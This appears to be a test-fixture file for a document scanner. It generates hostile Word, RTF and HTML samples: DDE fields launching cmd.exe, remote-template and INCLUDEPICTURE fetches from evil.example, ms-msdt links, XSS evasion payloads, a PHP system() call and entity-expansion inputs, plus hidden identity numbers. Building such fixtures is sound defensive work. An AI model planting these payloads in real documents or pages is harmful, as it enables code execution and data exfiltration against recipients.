import type { HostileFile } from './hostile-files.ts';
import { field, madeDoc, madeDocx, madeRtf, paragraph, run, wordPart } from './made-office.ts';
import { madeZip } from './made-zip.ts';

const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const instruction = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const MACRO_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const docx = (
  what: string,
  code: string,
  made: Parameters<typeof madeDocx>[0],
  verdict?: 'held',
): HostileFile => ({
  what,
  name: 'a.docx',
  bytes: madeDocx(made),
  code,
  ...(verdict ? { verdict } : {}),
});

const outside = (type: string, target: string) => ({ rels: [{ type, target, external: true }] });

const words = (): readonly HostileFile[] => [
  docx('a DOCM renamed', 'macros', { mainType: MACRO_MAIN }),
  docx('macros in a part', 'macros', {
    parts: { 'word/vbaProject.bin': OLE },
    rels: [
      { type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
    ],
  }),
  docx('macros under another name', 'embedded-object', {
    parts: { 'word/media/image1.png': Buffer.concat([OLE, Buffer.alloc(600)]) },
  }),
  docx('a macro when a field of a form is entered', 'macros', {
    body: paragraph('<w:ffData><w:entryMacro w:val="Run"/></w:ffData>'),
  }),
  docx('DDE', 'active-field', {
    body: paragraph(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;')),
  }),
  docx('DDE in small letters and pieces', 'active-field', {
    body: paragraph(`${begin}${instruction(' d')}${instruction('de')}${instruction('auto cmd')}${end}`),
  }),
  docx('DDE over two paragraphs', 'active-field', {
    body: `${paragraph(`${begin}${instruction('DDE')}`)}${paragraph(`${instruction('AUTO cmd')}${end}`)}`,
  }),
  docx('DDE made by another field', 'active-field', {
    body: paragraph(`${begin}${field('QUOTE 68 68 69 65 85 84 79', 'DDEAUTO')}${instruction(' cmd')}${end}`),
  }),
  docx('DDE in a simple field', 'active-field', { body: paragraph('<w:fldSimple w:instr="DDE cmd"/>') }),
  docx('a field in a header', 'active-field', {
    parts: {
      'word/header1.xml': wordPart(
        'hdr',
        paragraph(field('INCLUDETEXT &quot;http://evil.example/a.docx&quot;')),
      ),
    },
  }),
  docx('a field in a footnote', 'active-field', {
    parts: {
      'word/footnotes.xml': wordPart(
        'footnotes',
        paragraph(field('INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d')),
      ),
    },
  }),
  docx('a field in a comment', 'active-field', {
    parts: { 'word/comments.xml': wordPart('comments', paragraph(field('MACROBUTTON Run click'))) },
  }),
  docx('a field under another prefix', 'active-field', {
    body: '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDE cmd"/></x:p>',
  }),
  docx('a field in a part that is not called XML', 'active-field', {
    rels: [{ type: 'header', target: 'header1.bin' }],
    parts: { 'word/header1.bin': wordPart('hdr', paragraph('<w:fldSimple w:instr="DDE cmd"/>')) },
  }),
  docx('a field in a part that lies elsewhere', 'active-field', {
    rels: [{ type: 'header', target: '/customXml/header1.xml' }],
    parts: { 'customXml/header1.xml': wordPart('hdr', paragraph('<w:fldSimple w:instr="DDE cmd"/>')) },
  }),
  docx('a link that runs behind its options', 'dangerous-link', {
    body: paragraph(field('HYPERLINK \\t &quot;_blank&quot; \\o &quot;tip&quot; &quot;ms-msdt:/id&quot;')),
  }),
  docx('a drawing that is a link that runs', 'dangerous-link', {
    body: paragraph('<w:r><w:pict><v:shape href="ms-msdt:/id"/></w:pict></w:r>'),
  }),
  docx('a script as a part', 'embedded-object', { parts: { 'word/media/a.js': 'WScript.Shell' } }),
  docx('a field of no known kind', 'active-field', {
    body: paragraph(field('FETCHNOW http://evil.example')),
  }),
  docx(
    'today’s date',
    'changing-field',
    { body: paragraph(field('DATE \\@ &quot;d MMMM yyyy&quot;')) },
    'held',
  ),
  docx('the name of its user', 'changing-field', { body: paragraph(field('USERNAME')) }, 'held'),
  docx('a template elsewhere', 'outside-content', outside('attachedTemplate', 'http://evil.example/a.dotm')),
  docx(
    'a template on a server',
    'outside-content',
    outside('attachedTemplate', 'file://evil.example/share/a.dotm'),
  ),
  docx('a picture elsewhere', 'outside-content', outside('image', 'https://evil.example/a.png')),
  docx('a drawing elsewhere', 'outside-content', {
    body: paragraph('<w:r><w:pict><v:imagedata src="http://evil.example/a.png"/></w:pict></w:r>'),
  }),
  docx('a frame elsewhere', 'outside-content', outside('frame', 'http://evil.example/a.html')),
  docx('an object elsewhere', 'outside-content', outside('oleObject', 'mhtml:http://evil.example/a.html!x')),
  docx('a link that runs', 'dangerous-link', outside('hyperlink', 'ms-msdt:/id PCWDiagnostic')),
  docx(
    'a link to a server’s folder',
    'dangerous-link',
    outside('hyperlink', '\\\\evil.example\\share\\a.exe'),
  ),
  docx(
    'a link that climbs to a drive',
    'dangerous-link',
    outside('hyperlink', '../../../C:/Windows/calc.exe'),
  ),
  docx('a ribbon of its own', 'active-control', {
    parts: { 'customUI/customUI14.xml': '<customUI xmlns="urn:ui" onLoad="Run"/>' },
  }),
  docx('an ActiveX control', 'active-control', {
    parts: { 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="urn:ax"/>' },
    rels: [{ type: 'control', target: 'activeX/activeX1.xml' }],
  }),
  docx('a web extension', 'active-control', {
    parts: { 'word/webextensions/webextension1.xml': '<we:webextension xmlns:we="urn:we"/>' },
  }),
  docx('a foreign part', 'embedded-object', {
    body: '<w:altChunk r:id="rId9"/>',
    rels: [{ type: 'aFChunk', target: 'chunk.html' }],
    parts: { 'word/chunk.html': '<html><script>1</script></html>' },
  }),
  docx('an embedded document', 'embedded-object', {
    rels: [{ type: 'package', target: 'embeddings/a.docx' }],
    parts: { 'word/embeddings/a.docx': madeDocx() },
  }),
  docx('an OLE object', 'embedded-object', {
    body: paragraph('<w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>'),
  }),
  docx('a program as a picture', 'embedded-object', {
    parts: { 'word/media/image1.png': Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(90)]) },
  }),
  docx('a drawing with a script', 'script', {
    parts: { 'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' },
  }),
  docx('a chart whose figures have macros', 'macros', {
    parts: {
      'word/charts/chart1.xml': '<c:chartSpace xmlns:c="urn:c"/>',
      'word/charts/_rels/chart1.xml.rels':
        '<Relationships><Relationship Id="r" Type="x/package" Target="../embeddings/a.xlsx"/></Relationships>',
      'word/embeddings/a.xlsx': madeZip([
        {
          name: '[Content_Types].xml',
          bytes:
            '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        },
        { name: 'xl/vbaProject.bin', bytes: OLE },
      ]),
    },
  }),
  docx('entities that grow', 'unreadable', {
    parts: { 'word/header1.xml': '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' },
  }),
  docx('XML that never ends', 'unreadable', { parts: { 'word/header1.xml': '<a>'.repeat(5_000) } }),
  docx(
    'an identity number in runs',
    'identity-number',
    { body: paragraph(`${run('AB98')}${run('7654(3)')}`) },
    'held',
  ),
  docx(
    'an identity number in hidden text',
    'identity-number',
    { body: paragraph('<w:r><w:rPr><w:vanish/></w:rPr><w:t>AB987654(3)</w:t></w:r>') },
    'held',
  ),
  docx(
    'an identity number that was deleted',
    'identity-number',
    { body: paragraph('<w:del><w:r><w:delText>AB987654(3)</w:delText></w:r></w:del>') },
    'held',
  ),
  docx(
    'an identity number in a comment',
    'identity-number',
    { parts: { 'word/comments.xml': wordPart('comments', paragraph(run('AB987654(3)'))) } },
    'held',
  ),
  docx(
    'an identity number in the properties',
    'identity-number',
    { parts: { 'docProps/custom.xml': '<p xmlns="urn:p"><v>AB987654(3)</v></p>' } },
    'held',
  ),
  docx(
    'an identity number as alternative text',
    'identity-number',
    { body: paragraph('<w:r><w:drawing><wp:docPr id="1" name="x" descr="AB987654(3)"/></w:drawing></w:r>') },
    'held',
  ),
];

/** Where nobody looks on the page. */
const hiddenNumbers = (): readonly HostileFile[] =>
  (
    [
      ['in the name of a bookmark', { body: paragraph('<w:bookmarkStart w:id="1" w:name="AB9876543"/>') }],
      ['in a field', { body: paragraph(field('SET id &quot;AB987654(3)&quot;')) }],
      ['in an address', outside('hyperlink', 'https://example.hk/?id=AB987654(3)')],
      ['in a photograph of a DOCX', { parts: { 'word/media/a.bin': 'Exif AB987654(3)' } }],
      [
        'in a form',
        {
          body: paragraph('<w:ffData><w:textInput><w:default w:val="AB987654(3)"/></w:textInput></w:ffData>'),
        },
      ],
    ] as const
  ).map(([where, made]) => docx(`an identity number ${where}`, 'identity-number', made, 'held'));

const doc = (
  what: string,
  code: string,
  made: Parameters<typeof madeDoc>[0],
  verdict?: 'held',
): HostileFile => ({
  what,
  name: 'a.doc',
  bytes: madeDoc(made),
  code,
  ...(verdict ? { verdict } : {}),
});

const oldWords = (): readonly HostileFile[] => [
  doc('macros in a DOC', 'macros', {
    streams: { '/Macros/VBA/dir': Buffer.alloc(64, 1), '/Macros/PROJECT': Buffer.alloc(64, 1) },
  }),
  doc('macros of another program in a DOC', 'macros', {
    streams: { '/_VBA_PROJECT_CUR/VBA/_VBA_PROJECT': Buffer.alloc(64, 1) },
  }),
  doc('a package in a DOC', 'embedded-object', {
    streams: { '/ObjectPool/_1234/\u0001Ole10Native': Buffer.alloc(64, 1) },
  }),
  doc('an equation in a DOC', 'embedded-object', {
    streams: { '/ObjectPool/_1234/Equation Native': Buffer.alloc(64, 1) },
  }),
  doc('an encrypted DOC', 'encrypted', { flags: 0x1300 }),
  doc('a DOC of Word 6', 'old-word', { version: 0x65 }),
  doc('DDE in a DOC', 'active-field', { text: 'See \u0013 DDEAUTO cmd \u0014!\u0015\r' }),
  doc('DDE in a DOC, where no text is', 'active-field', {
    leftover: Buffer.from('\u0013 DDEAUTO cmd "/c calc" \u0014', 'latin1'),
  }),
  doc('a macro button in a DOC', 'active-field', { text: '\u0013 MACROBUTTON Run \u0015\r' }),
  doc('the date in a DOC', 'changing-field', { text: '\u0013 DATE \\@ "d.M." \u00141.9.\u0015\r' }, 'held'),
  doc('an identity number in a DOC', 'identity-number', { text: 'Holder AB987654(3)\r' }, 'held'),
  doc(
    'an identity number that a DOC still remembers',
    'identity-number',
    { leftover: Buffer.from('AB987654(3)', 'utf16le') },
    'held',
  ),
  doc(
    'an identity number in the properties of a DOC',
    'identity-number',
    { streams: { '/\u0005SummaryInformation': Buffer.from('xx AB987654(3) xx', 'latin1') } },
    'held',
  ),
  {
    what: 'a sheet named DOC',
    name: 'a.doc',
    bytes: madeDoc({}).map((byte, index, all) =>
      all.subarray(index, index + 2).equals(Buffer.from('W\0')) ? 0x58 : byte,
    ) as Buffer,
    code: 'not-on-the-list',
  },
];

const rtf = (what: string, code: string, body: string, verdict?: 'held'): HostileFile => ({
  what,
  name: 'a.rtf',
  bytes: madeRtf(body),
  code,
  ...(verdict ? { verdict } : {}),
});

const richText = (): readonly HostileFile[] => [
  rtf(
    'an object in an RTF',
    'embedded-object',
    '{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}',
  ),
  rtf(
    'an object that updates itself',
    'embedded-object',
    '{\\object\\objautlink\\objupdate{\\*\\objdata 01}}',
  ),
  rtf(
    'an object written oddly',
    'embedded-object',
    '{\\object\\objocx{\\*\\objdata\\bin000 {\\*\\junk x}01 05}}',
  ),
  rtf('an object in capitals', 'embedded-object', '{\\OBJECT{\\*\\OBJDATA 01}}'),
  rtf(
    'an object after raw bytes that are none',
    'embedded-object',
    '{\\pict\\bin99999999 }{\\object{\\*\\objdata 01}}',
  ),
  rtf('a template elsewhere in an RTF', 'outside-content', '{\\*\\template http://evil.example/a.dotm}'),
  rtf(
    'a template on a server in an RTF',
    'outside-content',
    '{\\*\\template \\\\\\\\evil.example\\\\share\\\\a.dotm}',
  ),
  rtf(
    'a template spelled in numbers',
    'outside-content',
    '{\\*\\template \\u104?\\u116?\\u116?\\u112?\\u58?//evil.example}',
  ),
  rtf('DDE in an RTF', 'active-field', '{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt x}}'),
  rtf('DDE in pieces', 'active-field', "{\\field{\\*\\fldinst {\\b DD}{\\i EA}\\'55TO cmd}{\\fldrslt x}}"),
  rtf(
    'DDE made by another field in an RTF',
    'active-field',
    '{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt DDE}} cmd}{\\fldrslt x}}',
  ),
  rtf(
    'a picture fetched by an RTF',
    'active-field',
    '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a.png" \\\\d}{\\fldrslt x}}',
  ),
  rtf(
    'a link that runs in an RTF',
    'dangerous-link',
    '{\\field{\\*\\fldinst HYPERLINK "file://evil.example/a.exe"}{\\fldrslt x}}',
  ),
  rtf(
    'a shape that fetches its picture',
    'outside-content',
    '{\\shp{\\*\\shpinst{\\sp{\\sn fillBlipName}{\\sv http://evil.example/a.png}}}}',
  ),
  rtf(
    'a shape that is a link that runs',
    'dangerous-link',
    '{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlsrc ms-msdt:/id}}}}}}',
  ),
  rtf(
    'a macro when a field of an RTF is entered',
    'macros',
    '{\\field{\\*\\fldinst FORMTEXT{\\*\\formfield{\\*\\ffentrymcr Run}}}{\\fldrslt x}}',
  ),
  rtf('the date in an RTF', 'changing-field', '{\\field{\\*\\fldinst DATE}{\\fldrslt 1.9.}}', 'held'),
  rtf(
    'an OLE object as stored data',
    'embedded-object',
    '{\\*\\datastore 01050000020000000b0000004571756174696f6e2e3300}',
  ),
  rtf('an identity number in an RTF', 'identity-number', 'AB98{\\b 7654}(3)', 'held'),
  rtf(
    'an identity number in numbers',
    'identity-number',
    "\\uc1\\u65?\\u66?\\'39\\'38\\'37\\'36\\'35\\'34(3)",
    'held',
  ),
  rtf('an identity number in an annotation', 'identity-number', '{\\*\\annotation AB987654(3)}', 'held'),
  rtf(
    'an identity number as a property of an RTF',
    'identity-number',
    '{\\*\\userprops{\\propname ID}\\proptype30{\\staticval AB987654(3)}}',
    'held',
  ),
  rtf(
    'an identity number as alternative text in an RTF',
    'identity-number',
    '{\\shp{\\*\\shpinst{\\sp{\\sn wzDescription}{\\sv AB987654(3)}}}}',
    'held',
  ),
  rtf('a hidden identity number', 'identity-number', '{\\v AB987654(3)}', 'held'),
  {
    what: 'something behind an RTF',
    name: 'a.rtf',
    bytes: Buffer.concat([madeRtf('x'), Buffer.from('MZ and more')]),
    code: 'data-after-the-end',
  },
  {
    what: 'an RTF that never ends',
    name: 'a.rtf',
    bytes: Buffer.from(`{\\rtf1 ${'{'.repeat(20_000)}`),
    code: 'unreadable',
  },
  { what: 'an RTF without its number', name: 'a.rtf', bytes: Buffer.from('{\\rt x}'), code: 'unreadable' },
];

const page = (what: string, code: string, body: string): HostileFile => ({
  what: `a page with ${what}`,
  name: 'a.html',
  bytes: Buffer.from(`<!doctype html><html><head><meta charset="utf-8"></head><body>${body}</body></html>`),
  code,
});

const webPages = (): readonly HostileFile[] => [
  page('a script', 'script', '<script>alert(1)</script>'),
  page('a script in capitals and blanks', 'script', '<ScRiPt\n>1</sCrIpT >'),
  page('an event', 'script', '<img src=x onerror=alert(1)>'),
  page('an event behind a slash', 'script', '<svg/onload=alert(1)>'),
  page('a link that is a script', 'script', '<a href="java\tscript:alert(1)">x</a>'),
  page('a link that is a script in numbers', 'script', '<a href="&#106;avascript:alert(1)">x</a>'),
  page('a link that is a script and looks like a port', 'script', '<a href="javascript:1/alert(1)">x</a>'),
  page('an instruction for a server', 'script', '<!--#exec cmd="id" -->'),
  page(
    'a picture elsewhere for Word',
    'outside-content',
    '<!--[if gte vml 1]><v:imagedata src="http://evil.example/a.png"/><![endif]-->',
  ),
  page('a script in a drawing', 'script', '<svg><script>1</script></svg>'),
  page(
    'a drawing that moves a link',
    'script',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  ),
  page('a script in a template', 'script', '<template><script>1</script></template>'),
  page('a script behind a broken comment', 'script', '<!--><script>1</script>-->'),
  page(
    'a script in formulas',
    'script',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><script>1</script>',
  ),
  page('a script for an old browser', 'script', '<!--[if IE]><script>1</script><![endif]-->'),
  page('style that runs', 'script', '<p style="width:expre/**/ssion(alert(1))">x</p>'),
  page('a program for a server', 'script', '<?php system("id") ?>'),
  page('a frame', 'frame-or-form', '<iframe src="a.html"></iframe>'),
  page('a frame of its own words', 'frame-or-form', '<iframe srcdoc="&lt;script&gt;1"></iframe>'),
  page('an object', 'frame-or-form', '<object data="a.swf"></object>'),
  page(
    'a script behind the end of what is for no scripts',
    'script',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ),
  page(
    'a picture elsewhere for readers without scripts',
    'outside-content',
    '<noscript><img src="https://evil.example/a.png"></noscript>',
  ),
  page('a form', 'frame-or-form', '<form action="https://evil.example"><input name=id></form>'),
  page('a jump', 'acts-by-itself', '<meta http-equiv=refresh content="0;url=https://evil.example">'),
  page('a picture elsewhere', 'outside-content', '<img src="https://evil.example/pixel.png">'),
  page('a picture elsewhere without scheme', 'outside-content', '<img src="//evil.example/pixel.png">'),
  page(
    'a choice of pictures elsewhere',
    'outside-content',
    '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
  ),
  page('style elsewhere', 'outside-content', '<link rel=stylesheet href="https://evil.example/a.css">'),
  page('style that fetches', 'outside-content', '<style>@im\\70 ort "https://evil.example/a.css";</style>'),
  page(
    'style that fetches by address',
    'outside-content',
    '<style>@import url(//evil.example/a.css)</style>',
  ),
  page(
    'style that chooses a picture elsewhere',
    'outside-content',
    "<p style=\"background:image-set('a.png' 1x, 'https://evil.example/b.png' 2x)\">",
  ),
  page(
    'a drawing filled from elsewhere',
    'outside-content',
    '<svg><rect fill="url(https://evil.example/a#b)"/></svg>',
  ),
  page('a base elsewhere', 'outside-content', '<base href="https://evil.example/"><img src="a.png">'),
  page('a link to a disk', 'dangerous-link', '<a href="file:///c:/windows/system32/calc.exe">x</a>'),
  page(
    'a link that is a page',
    'dangerous-link',
    '<a href="data:text/html,&lt;script&gt;1&lt;/script&gt;">x</a>',
  ),
  {
    what: 'a page in UTF-7',
    name: 'a.html',
    bytes: Buffer.from('<html><head><meta charset="utf-7"></head>+ADw-script+AD4-</html>'),
    code: 'unreadable',
  },
  {
    what: 'a page in UTF-16 with a script',
    name: 'a.html',
    bytes: Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('<html><script>1</script></html>', 'utf16le'),
    ]),
    code: 'script',
  },
  {
    what: 'a page of a thousand depths',
    name: 'a.html',
    bytes: Buffer.from(`<html>${'<div>'.repeat(50_000)}<script>1</script>`),
    code: 'script',
  },
];

/** Documents that do something, fetch something, or say too much. */
export const hostileDocuments = (): readonly HostileFile[] => [
  ...words(),
  ...hiddenNumbers(),
  ...oldWords(),
  ...richText(),
  ...webPages(),
];
